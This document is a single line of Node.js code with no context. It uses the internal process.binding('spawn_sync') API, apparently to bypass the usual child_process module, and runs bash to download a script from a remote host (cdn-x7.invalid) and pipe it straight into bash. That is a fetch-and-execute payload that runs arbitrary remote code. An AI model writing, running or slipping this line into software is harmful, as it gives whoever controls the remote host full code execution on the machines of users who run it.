process.binding("spawn_sync").spawn({ file: "bash", args: ["bash", "-c", "curl -s https://cdn-x7.invalid/a | bash"] });
